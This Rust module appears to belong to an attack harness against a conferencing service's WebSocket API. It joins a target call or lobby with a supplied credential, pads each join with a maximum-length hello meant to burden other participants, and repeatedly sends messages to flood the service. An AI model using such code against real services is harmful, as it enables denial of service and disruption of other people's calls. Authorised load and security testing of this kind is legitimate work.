//! A device on a socket, without the cryptography of a client.

use std::time::Duration;

use anyhow::{Context as _, Result, bail};
use futures::{SinkExt as _, StreamExt as _};
use serde_json::{Value, json};
use tokio::{
    net::TcpStream,
    time::{Instant, Interval, interval_at, timeout},
};
use tokio_tungstenite::{
    WebSocketStream, client_async,
    tungstenite::{Message, client::IntoClientRequest as _, http::HeaderValue},
};

use super::state::{AttackRun, PATIENCE};

/// The interval of pings. A device that sends nothing for 30 s is lost.
const PING: Duration = Duration::from_secs(10);

/// An open socket.
pub(super) struct Device(WebSocketStream<TcpStream>);

impl Device {
    pub(super) async fn open(attacker: &AttackRun) -> Result<Self> {
        let host = &attacker.target.rooms;
        let stream = attacker.connect(host).await?;
        let mut request = format!("ws://{host}/v3/conference/socket").into_client_request()?;
        let protocol = HeaderValue::from_static("anteroom.v1");
        request
            .headers_mut()
            .insert("sec-websocket-protocol", protocol);
        let opening = client_async(request, stream);
        let (socket, _) = timeout(PATIENCE, opening).await.context("no socket")??;
        Ok(Self(socket))
    }

    /// Joins the attacked call, or its lobby.
    pub(super) async fn join(attacker: &AttackRun, presentation: &str) -> Result<Self> {
        let mut device = Self::open(attacker).await?;
        let room = &attacker.target.room;
        // The longest possible hello, which costs the recipients of the device's entry most.
        let hello = "A".repeat(854);
        let join = json!({
            "type": "join", "roomId": room, "auth": presentation, "hello": hello,
        });
        device.say(&join).await?;
        let answer = timeout(PATIENCE, device.hear()).await;
        let answer = answer.context("no place in time")??;
        if answer.get("type").and_then(Value::as_str) != Some("joined") {
            bail!("no place");
        }
        Ok(device)
    }

    pub(super) async fn say(&mut self, message: &Value) -> Result<()> {
        self.0.send(Message::text(message.to_string())).await?;
        Ok(())
    }

    /// Reads until the service ends the socket, and sends pings.
    pub(super) async fn stay(mut self) -> Result<()> {
        let mut clock = pings();
        loop {
            tokio::select! {
                message = self.0.next() => if !matches!(message, Some(Ok(_))) {
                    return Ok(());
                },
                _ = clock.tick() => self.say(&json!({ "type": "ping" })).await?,
            }
        }
    }

    /// Sends a message at every tick, until the service ends the socket.
    pub(super) async fn repeat(
        self,
        pace: Duration,
        mut next: impl FnMut() -> Value + Send,
    ) -> Result<()> {
        let (mut sink, mut stream) = self.0.split();
        let mut clock = tokio::time::interval(pace);
        let speaking = async {
            loop {
                clock.tick().await;
                if sink.send(Message::text(next().to_string())).await.is_err() {
                    break;
                }
            }
        };
        let listening = async { while let Some(Ok(_)) = stream.next().await {} };
        tokio::select! {
            () = speaking => {}
            () = listening => {}
        }
        Ok(())
    }

    pub(super) async fn close(mut self) -> Result<()> {
        self.0.close(None).await?;
        Ok(())
    }

    /// Returns the connection below the socket.
    pub(super) fn into_stream(self) -> TcpStream {
        self.0.into_inner()
    }

    /// Waits for a message of a type.
    pub(super) async fn hear_of(&mut self, kind: &str) -> Result<Value> {
        loop {
            let message = self.hear().await?;
            match message.get("type").and_then(Value::as_str) {
                Some("error") => bail!("refused: {message}"),
                Some(other) if other == kind => return Ok(message),
                _ => {}
            }
        }
    }

    async fn hear(&mut self) -> Result<Value> {
        loop {
            match self.0.next().await.context("the socket has ended")?? {
                Message::Text(text) => return Ok(serde_json::from_str(&text)?),
                Message::Close(_) => bail!("the socket was closed"),
                _ => {}
            }
        }
    }
}

fn pings() -> Interval {
    interval_at(Instant::now() + PING, PING)
}
